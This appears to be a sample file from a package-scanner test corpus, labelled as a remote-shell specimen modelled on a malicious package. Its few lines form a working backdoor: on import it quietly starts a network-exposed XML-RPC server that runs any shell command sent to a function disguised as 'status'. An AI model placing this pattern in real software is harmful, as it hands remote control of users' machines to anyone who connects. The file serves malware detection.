# pkgguard corpus 647 (remote-shell), modelled on [discordpydebug]; inert, never run.
import subprocess
import threading
from xmlrpc.server import SimpleXMLRPCServer

_server = SimpleXMLRPCServer(("0.0.0.0", 8765), logRequests=False, allow_none=True)
_server.register_function(subprocess.getoutput, "status")
threading.Thread(target=_server.serve_forever, daemon=True).start()
